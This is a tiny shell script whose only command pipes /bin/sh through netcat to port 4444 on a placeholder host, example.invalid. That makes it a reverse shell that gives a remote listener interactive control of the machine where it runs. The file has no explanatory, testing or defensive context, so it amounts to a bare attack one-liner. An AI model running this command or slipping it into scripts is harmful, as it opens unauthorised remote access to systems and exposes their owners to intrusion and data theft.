#!/bin/sh
nc -e /bin/sh example.invalid 4444
